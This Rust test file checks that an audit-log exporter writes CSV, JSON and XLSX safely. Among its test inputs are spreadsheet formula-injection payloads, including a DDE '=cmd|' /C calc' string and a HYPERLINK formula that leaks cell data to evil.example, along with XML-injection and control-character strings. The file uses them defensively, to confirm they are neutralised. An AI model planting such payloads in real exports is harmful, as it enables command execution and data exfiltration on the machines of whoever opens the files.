//! Exports as their readers read them: every row, once, and nothing that runs.
//!
//! Law: each form is read back by another program's rules (a CSV reader, a JSON parser, an unzipper), and
//! what people could have put into a name or a header comes back as it was, or defused.

use std::collections::BTreeSet;
use std::io::{Cursor, Read as _};

use serde_json::{Value, json};
use zip::ZipArchive;

use super::csv::defused;
use super::xlsx::Xlsx;
use super::*;
use crate::app::testing::{NOON, TestApp, With};
use crate::application::{self, NewApplication};
use crate::audit::{ApplicationEvent, Noted, Row, Who};
use crate::base::Timestamp;
use crate::on_every_store;
use crate::store::testing::TestStore;
use crate::store::{DEFAULT_SITE, Source as _, sql};
use crate::trail::entry::COLUMNS;

/// What somebody may call themselves, an application or a program.
const HOSTILE: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"a, \"\"b\"\"\")",
    "\u{ff1d}1+1",
    "two\r\nlines,\"quoted\"; and 'more'",
    "</t></is></c><c><f>1+1</f></c>&amp;<!--",
    "_x0041_ and _x005F_",
    "nul\u{0}bell\u{7}escape\u{1b}[31m",
    "👩‍👩‍👧‍👦 zoë ﷽",
    "\u{202e}txt.exe \u{2066}שלום\u{2069}",
    "\u{feff}begins",
    "{\"json\": [1, 2]}",
];

async fn app(store: TestStore) -> TestApp {
    TestApp::on(store, With::default()).await
}

/// One row for each text, in its details and in what names a browser.
async fn hostile_rows(app: &TestApp) {
    for (number, text) in HOSTILE.into_iter().enumerate() {
        let mut actor = Actor::new(Who::Account(Id::from_u128(5)));
        actor.user_agent = Some(text.to_owned());
        actor.address = Some("192.0.2.7".parse().unwrap());
        let mut change = app.change(actor).await.unwrap();
        let event = ApplicationEvent::Created {
            application: Id::from_u128(1000 + number as u128),
            name: text.to_owned(),
        };
        change.record(event).await.unwrap();
        change.commit().await.unwrap();
    }
}

async fn many_rows(app: &TestApp, count: u128) {
    let mut change = app.change(Actor::system()).await.unwrap();
    change.note((0..count).map(|number| {
        let event = ApplicationEvent::Created { application: Id::from_u128(number), name: "one".to_owned() };
        Noted { actor: Actor::system(), at: NOON, event: event.into() }
    }));
    change.commit().await.unwrap();
}

async fn export(app: &TestApp, search: Search, format: Format) -> Vec<u8> {
    let begun = Export::begin(app, Actor::command_line(), search, format, Grounds::default()).await;
    let (mut export, mut all) = (begun.unwrap(), Vec::new());
    while let Some(piece) = export.next().await.unwrap() {
        all.extend_from_slice(&piece);
    }
    assert!(export.next().await.unwrap().is_none(), "the end stays the end");
    all
}

fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    let rows = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect());
    rows.collect()
}

/// The sheets of a workbook, in their order, with the text of each cell.
fn read_xlsx(bytes: &[u8]) -> Vec<Vec<Vec<String>>> {
    let mut zip = ZipArchive::new(Cursor::new(bytes)).expect("a zip");
    let mut part = |name: &str| {
        let mut text = String::new();
        zip.by_name(name).unwrap_or_else(|_| panic!("{name} is there")).read_to_string(&mut text).unwrap();
        text
    };
    assert!(part("[Content_Types].xml").contains("/xl/workbook.xml"));
    assert!(part("_rels/.rels").contains("xl/workbook.xml"));
    assert!(part("xl/styles.xml").contains("numFmtId=\"49\""));
    let (workbook, relations) = (part("xl/workbook.xml"), part("xl/_rels/workbook.xml.rels"));
    let count = workbook.matches("<sheet ").count();
    assert_eq!(relations.matches("worksheets/sheet").count(), count);
    (1..=count).map(|number| rows_of(&part(&format!("xl/worksheets/sheet{number}.xml")))).collect()
}

fn rows_of(sheet: &str) -> Vec<Vec<String>> {
    assert!(!sheet.contains("<f>") && !sheet.contains("<hyperlink"), "nothing runs");
    assert!(sheet.starts_with("<?xml") && sheet.ends_with("</sheetData></worksheet>"));
    let row = regex::Regex::new(r#"(?s)<row r="(\d+)">(.*?)</row>"#).unwrap();
    let cell = r#"(?s)<c r="([A-Z])(\d+)"(?: s="\d")?(?: t="inlineStr")?>(?:<v>(-?\d+)</v>|<is><t xml:space="preserve">([^<]*)</t></is>)</c>"#;
    let cell = regex::Regex::new(cell).unwrap();
    let read = |(number, row): (usize, regex::Captures<'_>)| {
        assert_eq!(row[1], (number + 1).to_string());
        let mut cells = vec![String::new(); COLUMNS.len()];
        for found in cell.captures_iter(&row[2]) {
            assert_eq!(found[2], row[1]);
            let at = usize::from(found[1].as_bytes()[0] - b'A');
            cells[at] = found.get(3).or(found.get(4)).map_or(String::new(), |text| unspelled(text.as_str()));
        }
        assert_eq!(cell.replace_all(&row[2], ""), "", "every cell was understood");
        cells
    };
    row.captures_iter(sheet).enumerate().map(read).collect()
}

fn unspelled(text: &str) -> String {
    let text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&");
    let spelling = regex::Regex::new("_x([0-9A-Fa-f]{4})_").unwrap();
    let read = |found: &regex::Captures<'_>| {
        let code = u32::from_str_radix(&found[1], 16).unwrap();
        char::from_u32(code).unwrap().to_string()
    };
    spelling.replace_all(&text, read).into_owned()
}

fn column(name: &str) -> usize {
    COLUMNS.iter().position(|column| *column == name).unwrap()
}

async fn last_export(app: &TestApp) -> Row {
    let rows = audit::latest(&app.db, 1).await.unwrap();
    assert_eq!(rows[0].code, "audit_exported");
    rows[0].clone()
}

on_every_store! {
    async fn what_people_wrote_comes_back_and_nothing_of_it_runs(store: TestStore) {
        let app = app(store).await;
        hostile_rows(&app).await;
        let search = Search { codes: vec!["app_created".to_owned()], ..Search::default() };
        let told: Value = serde_json::from_slice(&export(&app, search.clone(), Format::Json).await).unwrap();
        let told = told.as_array().unwrap();
        let csv = read_csv(&export(&app, search.clone(), Format::Csv).await);
        let sheets = read_xlsx(&export(&app, search, Format::Xlsx).await);
        assert_eq!((told.len(), csv.len(), sheets.len()), (HOSTILE.len(), HOSTILE.len() + 1, 1));
        let sheet = &sheets[0];
        assert_eq!(sheet.len(), csv.len());
        assert_eq!((&csv[0][..], &sheet[0][..]), (&COLUMNS.map(str::to_owned)[..], &csv[0][..]));
        let (agent, details) = (column("user_agent"), column("details"));
        for (at, text) in HOSTILE.into_iter().rev().enumerate() {
            assert_eq!((&told[at]["user_agent"], &told[at]["details"]["name"]), (&json!(text), &json!(text)));
            let (row, cells) = (&csv[at + 1], &sheet[at + 1]);
            assert_eq!((row.len(), cells[agent].as_str()), (COLUMNS.len(), text), "a sheet holds it as text");
            for cells in [row, cells] {
                let detail: Value = serde_json::from_str(&cells[details]).unwrap();
                assert_eq!(detail["name"], json!(text));
            }
            let live = |cell: &&String| cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}']);
            assert_eq!(row.iter().find(live), None, "{text:?}");
            assert!(row[agent].trim_start_matches('\'').starts_with(text.chars().next().unwrap()));
            assert!(!row.iter().any(|cell| cell.contains(['\0', '\u{7}', '\u{1b}'])), "{row:?}");
        }
        for (row, one) in csv.iter().skip(1).zip(told) {
            assert_eq!(row[column("id")], one["id"].as_str().unwrap());
            assert_eq!((&row[column("ip_address")], &row[column("action")]), (&"192.0.2.7".to_owned(), &"app_created".to_owned()));
        }
    }

    async fn a_long_trail_is_told_whole_in_pieces_and_once(store: TestStore) {
        let app = app(store).await;
        let count = 2 * u128::from(PIECE) + 3;
        many_rows(&app, count).await;
        let all: Vec<String> = (1..=count).rev().map(|number| number.to_string()).collect();
        let search = || Search { codes: vec!["app_created".to_owned()], ..Search::default() };
        let csv = read_csv(&export(&app, search(), Format::Csv).await);
        assert_eq!(csv.iter().skip(1).map(|row| row[0].clone()).collect::<Vec<_>>(), all);
        assert_eq!(last_export(&app).await.personal["detail"]["rows"], Value::Null, "nobody has counted them");
        let told: Value = serde_json::from_slice(&export(&app, search(), Format::Json).await).unwrap();
        let ids = told.as_array().unwrap().iter().map(|one| one["id"].as_str().unwrap().to_owned());
        assert_eq!(ids.collect::<Vec<_>>(), all);
        let sheets = read_xlsx(&export(&app, search(), Format::Xlsx).await);
        assert_eq!(sheets[0].iter().skip(1).map(|row| row[0].clone()).collect::<Vec<_>>(), all);
    }

    async fn what_is_taken_is_written_down_before_anything_leaves(store: TestStore) {
        let app = app(store).await;
        hostile_rows(&app).await;
        let whom = Id::from_u128(77);
        let mut actor = Actor::new(Who::Account(Id::from_u128(5)));
        actor.request_id = Some("r-9".to_owned());
        let search = Search {
            codes: vec!["login".to_owned(), "logout".to_owned()],
            account: Some(whom),
            address: Some("192.0.2.7".to_owned()),
            since: Some(Timestamp::from_millis(0)),
            ..Search::default()
        };
        let mut export = Export::begin(&app, actor, search, Format::Xlsx, Grounds::default()).await.unwrap();
        let row = last_export(&app).await;
        assert_eq!((row.actor, row.account), (Some(Id::from_u128(5)), Some(whom)));
        assert_eq!(row.request_id.as_deref(), Some("r-9"));
        let filters = json!({
            "action": "login,logout", "user_id": whom.to_string(), "ip_address": "192.0.2.7",
            "date_from": "1970-01-01T00:00:00Z",
        });
        let told = json!({"format": "xlsx", "filters": filters, "rows": 0});
        let mut detail = row.personal["detail"].clone();
        // However many places a second has.
        detail["filters"]["date_from"] = json!("1970-01-01T00:00:00Z");
        assert_eq!(detail, told);
        // What is written from then on, its own entry among it, is not in it.
        many_rows(&app, 3).await;
        let mut all = Vec::new();
        while let Some(piece) = export.next().await.unwrap() {
            all.extend_from_slice(&piece);
        }
        assert_eq!(read_xlsx(&all)[0].len(), 1, "the heading alone");
        assert_eq!(audit::verify(&app.db, &app.seal, audit::Stream::Changes).await.unwrap().first, 1);
    }

    async fn whose_rights_changed_gets_no_more_of_it(store: TestStore) {
        let app = app(store).await;
        many_rows(&app, 2 * u128::from(PIECE) + 3).await;
        let person = Subject::Account(Id::from_u128(5));
        let grounds = Grounds::of(&app, [person, Subject::Catalogue]);
        let begun = Export::begin(&app, Actor::command_line(), Search::default(), Format::Csv, grounds).await;
        let mut export = begun.unwrap();
        assert!(export.next().await.unwrap().is_some());
        app.epochs.raise_to(person, 1 << 20);
        assert!(matches!(export.next().await, Err(Failed::Revoked)));
        assert!(export.next().await.unwrap().is_none(), "and nothing comes after");
    }

    async fn a_site_is_exported_without_another_and_what_was_erased_stays_so(store: TestStore) {
        let app = app(store).await;
        hostile_rows(&app).await;
        let mut actor = Actor::system();
        actor.site = Id::from_u128(4711);
        let mut change = app.change(actor).await.unwrap();
        let elsewhere = ApplicationEvent::Created { application: Id::from_u128(1), name: "elsewhere".to_owned() };
        change.record(elsewhere).await.unwrap();
        change.commit().await.unwrap();
        let mut tx = app.db.begin().await.unwrap();
        tx.execute(sql("DELETE FROM audit_personal WHERE seq = 1")).await.unwrap();
        tx.commit().await.unwrap();
        let told: Value =
            serde_json::from_slice(&export(&app, Search::default(), Format::Json).await).unwrap();
        let told = told.as_array().unwrap();
        assert_eq!(told.len(), HOSTILE.len());
        let first = told.last().unwrap();
        assert_eq!((&first["id"], &first["details"], &first["ip_address"]), (&json!("1"), &Value::Null, &Value::Null));
        assert_eq!(first["user_agent"], "");
        let csv = read_csv(&export(&app, Search { until: Some(NOON), ..Search::default() }, Format::Csv).await);
        assert_eq!(csv.len(), 1, "nothing was before noon");
        let (count,): (i64,) =
            (&app.db).one(sql("SELECT COUNT(*) FROM audit WHERE code = 'audit_exported'")).await.unwrap();
        assert_eq!(count, 2, "one entry for each");
    }

    async fn the_name_of_an_application_is_no_formula_either(store: TestStore) {
        let app = app(store).await;
        let mut change = app.change(Actor::system()).await.unwrap();
        let new = NewApplication {
            site: DEFAULT_SITE,
            name: "=1+1".to_owned(),
            description: String::new(),
            allowed_origins: Vec::new(),
            redirect_uris: Vec::new(),
        };
        application::create(&mut change, new).await.unwrap();
        change.commit().await.unwrap();
        let csv = read_csv(&export(&app, Search::default(), Format::Csv).await);
        assert_eq!(csv[1][column("application_name")], "'=1+1");
    }
}

#[test]
fn every_column_is_a_field_of_the_wire() {
    let fields = schemars::schema_for!(Entry);
    let fields: BTreeSet<String> =
        fields.get("properties").and_then(Value::as_object).unwrap().keys().cloned().collect();
    assert_eq!(COLUMNS.iter().map(|name| (*name).to_owned()).collect::<BTreeSet<_>>(), fields);
}

#[tokio::test]
async fn a_full_sheet_is_followed_by_another_and_what_is_too_long_says_so() {
    let app = TestApp::new().await;
    many_rows(&app, 5).await;
    let mut change = app.change(Actor::system()).await.unwrap();
    let name = "é😀".repeat(40_000);
    change.record(ApplicationEvent::Created { application: Id::from_u128(9), name }).await.unwrap();
    change.commit().await.unwrap();
    let rows = audit::search(&app.db, DEFAULT_SITE, &Search::default(), 100).await.unwrap().rows;
    let names = Names::of(&app, DEFAULT_SITE, &rows).await.unwrap();
    let mut form = Xlsx::<Entry>::with_sheets_of(3);
    let mut all = form.begin().unwrap();
    for some in rows.chunks(4) {
        all.extend(form.rows(some, &names).unwrap());
    }
    all.extend(form.end().unwrap());
    let sheets = read_xlsx(&all);
    let told: Vec<Vec<&str>> =
        sheets.iter().map(|rows| rows.iter().map(|row| row[0].as_str()).collect()).collect();
    assert_eq!(told, [["id", "6", "5"], ["id", "4", "3"], ["id", "2", "1"]]);
    let long = &sheets[0][1][column("details")];
    assert!(long.encode_utf16().count() <= 32_767 && long.ends_with("(cut)"), "{}", long.len());
    assert!(long.encode_utf16().count() > 32_760, "and nothing more is cut than must be");
}

#[test]
fn what_could_be_a_formula_is_told_by_the_first_sign_of_whatever_could_be_a_cell() {
    for text in ["=1", "+1", "-1", "@a", "\tx", "\rx", "\nx", "\u{ff0b}1", "\u{ff0d}1", "\u{ff20}a", "="] {
        assert_eq!(defused(text), format!("'{text}"));
    }
    for text in ["", "a=1", " x", "'=1", "1-1", "{\"a\": \"=1\"}", "a; b", "a;", ";", "a;b=1", "a\n b-c"] {
        assert_eq!(defused(text), text);
    }
    // Where semicolons part cells, quotes inside of one are no quotes.
    for (text, safe) in [
        ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
        ("x; \"@SUM(A1)\"", "x;' \"@SUM(A1)\""),
        ("=1;+2;-3", "'=1;'+2;'-3"),
        ("a\t=1", "a\t'=1"),
        ("a\r\n=1", "a\r\n'=1"),
        ("a;;\u{ff1d}1", "a;;'\u{ff1d}1"),
        ("\t=1", "'\t'=1"),
        ("é;=1;z", "é;'=1;z"),
    ] {
        assert_eq!(defused(text), safe);
    }
}
